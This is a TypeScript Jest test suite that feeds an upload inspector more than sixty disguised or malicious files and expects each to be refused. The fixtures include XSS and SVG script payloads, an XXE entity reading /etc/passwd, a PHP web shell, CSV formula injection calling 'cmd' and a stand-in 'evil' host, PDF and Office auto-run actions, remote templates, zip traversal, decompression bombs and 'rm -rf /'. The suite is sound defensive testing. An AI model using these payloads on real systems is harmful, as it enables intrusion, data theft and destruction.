import { expect, test } from '@jest/globals'
import { zipSync, type Zippable } from 'fflate'
import { deflateSync } from 'node:zlib'
import type { FileKind } from '../../../src/domain/upload.js'
import { inspect } from '../../../src/exchange/upload/inspect.js'
import {
  csv,
  docx,
  docxParts,
  jpeg,
  jpegSegment,
  packed,
  pdfSaying,
  pdfStream,
  png,
  pngChunk,
  pngWithHeader,
  pptx,
  text,
  withPassword,
  xlsx,
  zipped,
} from '../../support/uploads.js'

/** quality.md C-12: ways past the inspector, each of which must end in a refusal. */

const MB = 1024 * 1024
const HTML = '<!doctype html><script>alert(1)</script>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
const XML = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
const EXE = Buffer.from('4d5a90000300000004000000ffff0000', 'hex')
const A_ZIP = zipped({ 'Evil.class': Buffer.from('cafebabe', 'hex') })
const SCRIPT = '/S /JavaScript /JS (app.alert\\(1\\))'
const COMPOUND = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2048)])
const LOCKED = Buffer.concat([COMPOUND, Buffer.from('EncryptedPackage', 'utf16le')])

const joined = (...parts: (Buffer | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => Buffer.from(part)))
const relations = (type: string, target: string): Zippable => ({
  'word/_rels/document.xml.rels': Buffer.from(
    `<Relationships><Relationship TargetMode="External" Target="${target}" Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"/></Relationships>`,
  ),
})
const saying = (xml: string): Zippable => ({ 'word/document.xml': Buffer.from(xml) })

function deepZip(depth: number): Buffer {
  let inside = zipped({ 'a.txt': text() })
  for (let n = 0; n < depth; n += 1) inside = zipped({ 'a.zip': inside })
  return inside
}

/** A zip in which two files have one name. */
function twice(name: string, first: Buffer, second: Buffer): Buffer {
  const [a, b] = [zipped({ [name]: first }), zipped({ [name]: second })]
  const local = (zip: Buffer): Buffer => zip.subarray(0, zip.indexOf('PK\u0001\u0002', 0, 'latin1'))
  return joined(local(a), local(b), b.subarray(local(b).length))
}

type Attempt = [what: string, kind: FileKind, content: Buffer, code: string]

const NOT_WHAT_IT_SAYS: Attempt[] = [
  ['a web page as a picture', 'png', Buffer.from(HTML), 'file-mismatch'],
  ['a drawing that runs as a picture', 'png', Buffer.from(SVG), 'file-mismatch'],
  ['a drawing that runs as a photograph', 'jpg', Buffer.from(SVG), 'file-mismatch'],
  ['a web page as a PDF', 'pdf', Buffer.from(HTML), 'file-mismatch'],
  ['a program as a PDF', 'pdf', EXE, 'file-mismatch'],
  ['a program as a document', 'docx', EXE, 'file-mismatch'],
  ['a program as text', 'txt', EXE, 'file-mismatch'],
  ['a program as a zip', 'zip', EXE, 'file-mismatch'],
  ['a photograph as a picture of the screen', 'png', jpeg(), 'file-mismatch'],
  ['a picture of the screen as a photograph', 'jpg', png(), 'file-mismatch'],
  ['a workbook as a document', 'docx', xlsx(), 'file-mismatch'],
  ['a document as a workbook', 'xlsx', docx(), 'file-mismatch'],
  ['a presentation as a document', 'docx', pptx(), 'file-mismatch'],
  [
    'two kinds of document at once',
    'docx',
    docx('x', { 'xl/workbook.xml': Buffer.from('<x/>') }),
    'file-mismatch',
  ],
  ['a zip as a document', 'docx', zipped({ 'word/document.xml': Buffer.from('<x/>') }), 'file-mismatch'],
  ['a document as a zip', 'zip', docx(), 'file-type'],
  ['a PDF behind a web page', 'pdf', joined(HTML, pdfSaying('')), 'file-mismatch'],
  ['a PDF behind a program', 'pdf', joined(EXE, pdfSaying('')), 'file-mismatch'],
  ['an old Word file as a new one', 'docx', COMPOUND, 'file-mismatch'],
  ['a PDF as text', 'txt', pdfSaying(''), 'file-mismatch'],
  ['rich text as text', 'txt', text('{\\rtf1\\object\\objocx}'), 'file-mismatch'],
  [
    'a saved web page as text',
    'txt',
    text('MIME-Version: 1.0\nContent-Type: multipart/related'),
    'file-mismatch',
  ],
  ['a script of a shell as text', 'txt', text('#!/bin/sh\nrm -rf /'), 'file-mismatch'],
  ['wide letters as text', 'txt', Buffer.from(`\ufeff${HTML}`, 'utf16le'), 'file-mismatch'],
  ['nothing at all', 'pdf', Buffer.alloc(0), 'file-empty'],
]

const MARKUP: Attempt[] = [
  ['a web page as text', 'txt', Buffer.from(HTML), 'file-active'],
  [
    'a web page behind a thousand words',
    'txt',
    text(`${'ord '.repeat(5_000)}<SCRIPT src=//evil>`),
    'file-active',
  ],
  ['a drawing that runs as text', 'txt', Buffer.from(SVG), 'file-active'],
  ['a drawing that runs as a list', 'csv', csv(`a;b\n${SVG}`), 'file-active'],
  ['XML with entities as text', 'txt', Buffer.from(XML), 'file-active'],
  ['a picture tag that runs', 'txt', text('<img src=x onerror=alert(1)>'), 'file-active'],
  ['a frame', 'csv', csv('<iframe/src=javascript:alert(1)>'), 'file-active'],
  ['a program of a server', 'txt', text('hej <?php system($_GET[0]) ?>'), 'file-active'],
  ['a script in letters of UTF-7', 'txt', text('+ADw-script+AD4-alert(1)'), 'file-active'],
  ['a list that starts a program', 'csv', csv("Navn\n=cmd|'/c calc'!A0"), 'file-active'],
  ['one in quotation marks', 'csv', csv('a;"@SUM(1+1)*cmd|\' /C calc\'!A0"'), 'file-active'],
  ['a list that asks the web', 'csv', csv('=WEBSERVICE("http://evil")'), 'file-active'],
]

const TWO_IN_ONE: Attempt[] = [
  ['a photograph that is a Java program too', 'jpg', joined(jpeg(), A_ZIP), 'file-active'],
  ['a picture that is a zip too', 'png', joined(png(), A_ZIP), 'file-active'],
  ['a zip in a comment of a photograph', 'jpg', jpeg({ more: [jpegSegment(0xfe, A_ZIP)] }), 'file-active'],
  ['a zip in a text of a picture', 'png', png({ more: [pngChunk('tEXt', A_ZIP)] }), 'file-active'],
  ['a zip among the pixels', 'jpg', jpeg({ scan: A_ZIP }), 'file-active'],
  ['a PDF that is a zip too', 'pdf', joined(pdfSaying(''), A_ZIP, '%%EOF'), 'file-active'],
  [
    'a PDF that is a web page too',
    'pdf',
    joined('%PDF-1.4\n<script>alert(1)</script>', pdfSaying('')),
    'file-active',
  ],
  ['text that is a zip too', 'txt', joined('hej\n', A_ZIP), 'file-active'],
]

const PDFS: Attempt[] = [
  ['a PDF with a script', 'pdf', pdfSaying(`/OpenAction << ${SCRIPT} >>`), 'file-active'],
  [
    'one whose name is disguised',
    'pdf',
    pdfSaying('/OpenAction << /S /J#61vaScript /J#53 (x) >>'),
    'file-active',
  ],
  [
    'one whose every sign is disguised',
    'pdf',
    pdfSaying('/A << /S /#4a#61#76#61#53#63#72#69#70#74 >>'),
    'file-active',
  ],
  [
    'one whose script lies elsewhere',
    'pdf',
    pdfSaying('/AA << /O << /JS 4 0 R >> >>', ['(x)']),
    'file-active',
  ],
  [
    'one whose script is packed away',
    'pdf',
    pdfSaying('', [
      pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`5 0 << ${SCRIPT} >>`)),
    ]),
    'file-active',
  ],
  [
    'one packed away behind another wrapping',
    'pdf',
    pdfSaying('', [
      pdfStream(
        '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
        packed('x').toString('hex'),
      ),
    ]),
    'file-unreadable',
  ],
  [
    'one that hides in what looks like a stream',
    'pdf',
    pdfSaying('/Note (>> stream\n', [`<< ${SCRIPT} >>`, 'endstream)']),
    'file-active',
  ],
  [
    'a PDF that starts a program',
    'pdf',
    pdfSaying('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    'file-active',
  ],
  [
    'a PDF that opens a page of the web',
    'pdf',
    pdfSaying('/OpenAction << /S /URI /URI (http://evil) >>'),
    'file-active',
  ],
  [
    'a PDF that asks another server',
    'pdf',
    pdfSaying('/AA << /O << /S /GoToE /F (\\\\evil\\x) >> >>'),
    'file-active',
  ],
  [
    'a PDF with a file in it',
    'pdf',
    pdfSaying('/Names << /EmbeddedFiles 4 0 R >>', ['<< >>']),
    'file-active',
  ],
  ['a PDF with a film that runs', 'pdf', pdfSaying('/AF << /Subtype /RichMedia >>'), 'file-active'],
  ['a PDF with a form of XML', 'pdf', pdfSaying('/AcroForm << /XFA 4 0 R >>', ['(x)']), 'file-active'],
  ['a PDF that sends its form', 'pdf', pdfSaying('/A << /S /SubmitForm /F (http://evil) >>'), 'file-active'],
  ['a PDF with a password', 'pdf', pdfSaying('', ['<< >>'], '/Encrypt 4 0 R'), 'file-locked'],
  ['half a PDF', 'pdf', pdfSaying('').subarray(0, 60), 'file-unreadable'],
  [
    'a PDF that unpacks to a hundred megabytes',
    'pdf',
    pdfSaying('', [pdfStream('/Filter /FlateDecode', deflateSync(Buffer.alloc(100 * MB)))]),
    'file-unpacks-too-large',
  ],
]

const OFFICE: Attempt[] = [
  ['a document with macros', 'docx', docx('x', { 'word/vbaProject.bin': Buffer.from('x') }), 'file-active'],
  ['macros under another name', 'xlsx', xlsx('x', { 'xl/bin.bin': Buffer.from('x') }), 'file-active'],
  ['macros in other letters', 'docx', docx('x', { 'word/VBAPROJECT.BIN': Buffer.from('x') }), 'file-active'],
  [
    'a document that says it has macros',
    'docx',
    docx('x', {
      '[Content_Types].xml': Buffer.from(
        '<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      ),
    }),
    'file-active',
  ],
  [
    'sheets of old macros',
    'xlsx',
    xlsx('x', { 'xl/macrosheets/sheet1.xml': Buffer.from('<x/>') }),
    'file-active',
  ],
  ['a control', 'docx', docx('x', { 'word/activeX/activeX1.xml': Buffer.from('<x/>') }), 'file-active'],
  ['a packed program', 'docx', docx('x', { 'word/embeddings/oleObject1.bin': EXE }), 'file-active'],
  ['a program', 'pptx', pptx('x', { 'ppt/media/setup.exe': EXE }), 'file-active'],
  ['a web page', 'docx', docx('x', { 'word/afchunk.mht': Buffer.from(HTML) }), 'file-active'],
  [
    'a workbook with macros in it',
    'docx',
    docx('x', { 'word/embeddings/Ark1.xlsx': xlsx('x', { 'xl/vbaProject.bin': EXE }) }),
    'file-active',
  ],
  [
    'a template from elsewhere',
    'docx',
    docx('x', relations('attachedTemplate', 'http://evil/a.dotm')),
    'file-active',
  ],
  ['an object from elsewhere', 'docx', docx('x', relations('oleObject', 'file://evil/a.hta')), 'file-active'],
  ['entities', 'docx', docx('x', saying(XML)), 'file-active'],
  [
    'entities in wide letters',
    'docx',
    docx('x', { 'word/document.xml': Buffer.from(`\ufeff${XML}`, 'utf16le') }),
    'file-active',
  ],
  [
    'a field that starts a program',
    'docx',
    docx('x', saying('<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>')),
    'file-active',
  ],
  [
    'a link that starts a program',
    'xlsx',
    xlsx('x', {
      'xl/externalLinks/externalLink1.xml': Buffer.from(
        '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      ),
    }),
    'file-active',
  ],
  ['a part that leads outside', 'docx', docx('x', { '../../evil.xml': Buffer.from('<x/>') }), 'file-active'],
  ['a document with a password', 'docx', LOCKED, 'file-locked'],
  ['a document whose parts have a password', 'docx', withPassword(docx()), 'file-locked'],
  [
    'a part that is there twice',
    'docx',
    joined(zipped(docxParts('x')).subarray(0, 40), twice('word/document.xml', text(), text())),
    'file-unreadable',
  ],
  ['half a document', 'xlsx', xlsx().subarray(0, 300), 'file-unreadable'],
  [
    'a document that unpacks to 200 MB',
    'xlsx',
    xlsx('x', { 'xl/big.xml': Buffer.alloc(200 * MB, ' ') }),
    'file-unpacks-too-large',
  ],
]

const ZIPS: Attempt[] = [
  ['a program in a zip', 'zip', zipped({ 'setup.exe': EXE }), 'file-type'],
  ['a script in a zip', 'zip', zipped({ 'a.js': text('alert(1)') }), 'file-type'],
  ['a file without an ending in a zip', 'zip', zipped({ passwd: text() }), 'file-type'],
  ['a Java program as a zip', 'zip', A_ZIP, 'file-type'],
  ['a program called a PDF in a zip', 'zip', zipped({ 'a.pdf': EXE }), 'file-mismatch'],
  [
    'macros in a document in a zip in a zip',
    'zip',
    zipped({ 'a.zip': zipped({ 'a.docx': docx('x', { 'word/vbaProject.bin': EXE }) }) }),
    'file-active',
  ],
  ['a name that leads outside', 'zip', zipped({ '../../a.txt': text() }), 'file-unreadable'],
  ['a name from the root', 'zip', zipped({ '/etc/a.txt': text() }), 'file-unreadable'],
  ['a name with a drive', 'zip', zipped({ 'C:\\a.txt': text() }), 'file-unreadable'],
  ['a zip in a zip in a zip', 'zip', deepZip(4), 'file-unpacks-too-large'],
  ['a zip with a password', 'zip', withPassword(zipped({ 'a.txt': text() })), 'file-locked'],
  [
    'a thousand files',
    'zip',
    zipped(Object.fromEntries(Array.from({ length: 1_000 }, (_, n) => [`${n}.txt`, text()]))),
    'file-unpacks-too-large',
  ],
  [
    'a zip that unpacks to 200 MB',
    'zip',
    Buffer.from(zipSync({ 'a.txt': Buffer.alloc(200 * MB, 'a') }, { level: 1 })),
    'file-unpacks-too-large',
  ],
  ['an empty zip', 'zip', zipped({}), 'file-mismatch'],
  ['a zip with nothing but clutter', 'zip', zipped({ '.DS_Store': text() }), 'file-empty'],
  ['one name twice', 'zip', twice('a.txt', text(), text('andet')), 'file-unreadable'],
]

const PICTURES: Attempt[] = [
  ['a picture of 20,000 × 20,000', 'png', pngWithHeader(20_000, 20_000), 'file-picture-too-large'],
  [
    'a picture as wide as a number can be',
    'png',
    pngWithHeader(0xffff_ffff, 0xffff_ffff),
    'file-picture-too-large',
  ],
  [
    'a photograph of 20,000 × 20,000',
    'jpg',
    jpeg({ width: 20_000, height: 20_000 }),
    'file-picture-too-large',
  ],
  [
    'a huge picture in a document',
    'docx',
    docx('x', { 'word/media/image1.png': pngWithHeader(20_000, 20_000) }),
    'file-picture-too-large',
  ],
  [
    'a huge picture in a zip',
    'zip',
    zipped({ 'a.png': pngWithHeader(20_000, 20_000) }),
    'file-picture-too-large',
  ],
  [
    'more pixels than the header promises',
    'png',
    png({ pixels: deflateSync(Buffer.alloc(50 * MB)) }),
    'file-unreadable',
  ],
  ['a web page in the place of pixels', 'png', png({ pixels: Buffer.from(HTML) }), 'file-unreadable'],
  ['a picture of no size', 'png', pngWithHeader(0, 10), 'file-unreadable'],
  ['a picture whose sums are wrong', 'png', png().fill(7, 30, 33), 'file-unreadable'],
  [
    'the first bytes of a picture and a web page',
    'png',
    joined(png().subarray(0, 8), HTML),
    'file-unreadable',
  ],
  [
    'the first bytes of a photograph and a web page',
    'jpg',
    joined(jpeg().subarray(0, 4), HTML),
    'file-unreadable',
  ],
  ['a photograph without a picture', 'jpg', Buffer.from('ffd8ffd9', 'hex'), 'file-unreadable'],
  ['half a photograph', 'jpg', jpeg().subarray(0, 60), 'file-unreadable'],
]

const ATTEMPTS = [...NOT_WHAT_IT_SAYS, ...MARKUP, ...TWO_IN_ONE, ...PDFS, ...OFFICE, ...ZIPS, ...PICTURES]

test.each(ATTEMPTS)('%s does not get in', async (_what, kind, content, code) => {
  const cleaned = await inspect(kind, content)
  expect('fault' in cleaned ? cleaned.fault.code : 'got in').toBe(code)
})

test('there are more than sixty of them', () => expect(ATTEMPTS.length).toBeGreaterThan(60))
